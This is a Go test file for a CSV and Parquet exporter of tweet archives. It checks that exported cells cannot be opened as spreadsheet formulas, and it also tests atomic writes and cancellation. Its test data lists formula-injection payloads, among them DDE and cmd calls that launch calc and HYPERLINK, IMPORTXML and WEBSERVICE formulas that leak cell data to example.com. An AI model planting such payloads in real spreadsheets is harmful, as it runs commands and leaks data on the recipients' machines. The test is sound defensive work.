package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/takedown/takedown/export"
	"github.com/takedown/takedown/loader/archive"
	"github.com/takedown/takedown/store"
)

var tableFormats = []export.Format{export.CSV, export.Parquet}

// folder is what is in a folder, by name.
func folder(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string][]byte{}
	for _, e := range entries {
		if files[e.Name()], err = os.ReadFile(filepath.Join(dir, e.Name())); err != nil {
			t.Fatal(err)
		}
	}
	return files
}

// writeAccounts writes an archive of accounts with these ids, names and texts.
func writeAccounts(t *testing.T, names ...string) string {
	t.Helper()
	var tweets archive.Writer
	tweets.Record(archive.TweetColumns...)
	for i, name := range names {
		p := &store.Profile{AccountID: name, ScreenName: name, DisplayName: name, Bio: name, Location: name, ProfileURL: name, Language: name, Followers: -1, Following: -1}
		if strings.ContainsFunc(name, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) }) {
			p.AccountID = fmt.Sprint("n", i)
		}
		tweets.Tweet(&store.TweetRow{ID: "t" + p.AccountID, AccountID: p.AccountID, PostedAt: 1_577_836_800_000, Text: name, Language: name, Client: name,
			IsRetweet: i > 0, RetweetedAccountID: names[0], Hashtags: []string{name}, URLs: []string{name}, QuoteCount: -1, ReplyCount: -1, LikeCount: -1, RetweetCount: -1,
			HasPlace: true, Latitude: -1.5, Longitude: -2}, p)
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "names_tweets_csv_hashed.csv"), tweets.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// formulas are cells that spreadsheets have run, and disguises for them.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1", "\u00a0=1", "\ufeff=1+1", "'=1+1", "\"=1+1", "\"\"=1+1",
	"=cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "=2+5+cmd|' /C calc'!A0",
	"=rundll32|'URL.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
	"=DDE(\"cmd\";\"/C calc\";\"!A0\")A0", "=HYPERLINK(\"http://example.com?leak=\"&A1,\"Click\")", "=IMPORTXML(CONCAT(\"http://example.com/\",A1),\"//a\")",
	"=WEBSERVICE(\"http://example.com\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "x;=1+1;", "x;\"=1+1", "a\n=1+1", "a\r\n+1", "a\t@SUM(1)", "a; -1", "a;'=1",
	"=", "-", "@x", "+", "harmless", "a=1", "a,=1+1", "1-1", "'tis", "a;b", "a\n\nb", ";-)", "x@y", "é=",
}

// TestFormulas: no cell of CSV, and no part of one that another separator would
// make a cell, begins like a formula; and what was added can be taken away again.
func TestFormulas(t *testing.T) {
	st := embedded(t, writeAccounts(t, formulas...))
	facts, err := export.Facts(t.Context(), st, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "tables")
	if err := facts.Write(t.Context(), dir, export.CSV, nil); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for name, content := range folder(t, dir) {
		rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if column := rows[0][i]; column == "latitude" || column == "longitude" {
					continue
				}
				seen[plain(cell)] = true
				parts := strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune("\t\r\n;", r) })
				for _, part := range append(parts, cell) {
					if part = strings.Trim(part, "\" \u00a0\ufeff"); part != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(part)[0]) {
						t.Errorf("%s: %q begins a formula in %q", name, part, cell)
					}
				}
				if cell != "" && strings.ContainsRune("\t\r\n", rune(cell[0])) {
					t.Errorf("%s: %q hides how it begins", name, cell)
				}
			}
		}
	}
	for _, text := range formulas {
		// A reader of CSV takes \r\n for \n.
		if !seen[strings.ReplaceAll(text, "\r\n", "\n")] {
			t.Errorf("%q cannot be had back", text)
		}
	}
}

// plain takes away what keeps a cell from being a formula, as the documentation says.
func plain(cell string) string {
	var b strings.Builder
	begins := func(s, with string) bool {
		s = strings.TrimLeft(s, "'\" \u00a0\u3000\u200b\ufeff\x00")
		return s != "" && strings.ContainsRune(with, []rune(s)[0])
	}
	with := "=+-@＝＋－＠\t\r\n"
	for rest := cell; ; with = "=+-@＝＋－＠" {
		if strings.HasPrefix(rest, "'") && begins(rest, with) {
			rest = rest[1:]
		}
		i := strings.IndexAny(rest, "\t\r\n;")
		if i < 0 {
			return b.String() + rest
		}
		b.WriteString(rest[:i+1])
		rest = rest[i+1:]
	}
}

// TestTargets: what is there already is not touched, and what fails leaves nothing.
func TestTargets(t *testing.T) {
	dir := t.TempDir()
	there, fresh := filepath.Join(dir, "there"), filepath.Join(dir, "fresh")
	if err := os.WriteFile(there, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	hello := func(w io.Writer) error { _, err := io.WriteString(w, "hello"); return err }
	if err := export.File(there, hello); !errors.Is(err, export.ErrExists) {
		t.Errorf("onto a file: %v", err)
	}
	broken := errors.New("broken")
	if err := export.File(fresh, func(w io.Writer) error { return errors.Join(hello(w), broken) }); !errors.Is(err, broken) {
		t.Error(err)
	}
	if err := export.Folder(fresh, func(dir string) error {
		return errors.Join(os.WriteFile(filepath.Join(dir, "x"), nil, 0o600), broken)
	}); !errors.Is(err, broken) {
		t.Error(err)
	}
	if got := folder(t, dir); len(got) != 1 || string(got["there"]) != "mine" {
		t.Errorf("left %v", got)
	}
	if err := export.Folder(dir, func(string) error { return nil }); !errors.Is(err, export.ErrNotEmpty) {
		t.Errorf("onto a folder that is not empty: %v", err)
	}
	if err := errors.Join(os.Mkdir(fresh, 0o700), export.Folder(fresh, func(dir string) error {
		return os.WriteFile(filepath.Join(dir, "x"), nil, 0o600)
	})); err != nil || !slices.Equal([]string{"x"}, names(t, fresh)) {
		t.Errorf("into an empty folder: %v", err)
	}
	if err := export.File(filepath.Join(fresh, "y"), hello); err != nil || !slices.Equal([]string{"x", "y"}, names(t, fresh)) {
		t.Errorf("a file: %v", err)
	}
}

func names(t *testing.T, dir string) (list []string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		list = append(list, e.Name())
	}
	return list
}

// TestExportsAreStopped: an export that is stopped says so and leaves nothing.
func TestExportsAreStopped(t *testing.T) {
	st, dir := embedded(t, "../graph/testdata/archive"), t.TempDir()
	facts, err := export.Facts(t.Context(), st, nil)
	if err != nil {
		t.Fatal(err)
	}
	g, err := export.Amplifications(t.Context(), st, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(t.Context())
	stop()
	if err := facts.Write(ctx, filepath.Join(dir, "tables"), export.CSV, nil); !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
	if err := export.File(filepath.Join(dir, "graph"), func(w io.Writer) error { _, err := export.GEXF(ctx, w, g, nil); return err }); !errors.Is(err, context.Canceled) {
		t.Error(err)
	}
	if left := names(t, dir); len(left) > 0 {
		t.Errorf("left %v", left)
	}
}

// TestUnsteady: a load meanwhile makes an export fail: it would be of no one state.
func TestUnsteady(t *testing.T) {
	st := embedded(t, "../graph/testdata/archive")
	g, err := export.Amplifications(t.Context(), st, nil)
	if err != nil {
		t.Fatal(err)
	}
	load(t, st, writeAccounts(t, "a", "b"))
	path := filepath.Join(t.TempDir(), "graph")
	if err := export.File(path, func(w io.Writer) error { _, err := export.GEXF(t.Context(), w, g, nil); return err }); err == nil || !strings.Contains(err.Error(), "loaded into meanwhile") {
		t.Error(err)
	}
	if _, err := os.Stat(path); err == nil {
		t.Error("there is a file")
	}
}
